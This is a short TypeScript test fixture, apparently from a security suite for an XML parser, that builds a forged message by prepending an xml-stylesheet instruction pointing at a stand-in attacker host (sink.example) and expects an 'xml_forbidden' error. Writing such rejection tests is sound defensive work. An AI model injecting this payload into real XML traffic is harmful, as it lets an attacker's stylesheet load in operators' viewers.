import type { Attack } from '../../support/attack.ts'

export const attack: Attack = {
  misdeed:
    'an xml-stylesheet instruction names a stylesheet of the attacker, for whatever shows the message to an operator',
  code: 'xml_forbidden',
  forge: ({ response }) => {
    const control = response()
    return { evil: `<?xml-stylesheet type="text/xsl" href="http://sink.example/x.xsl"?>${control}`, control }
  },
}
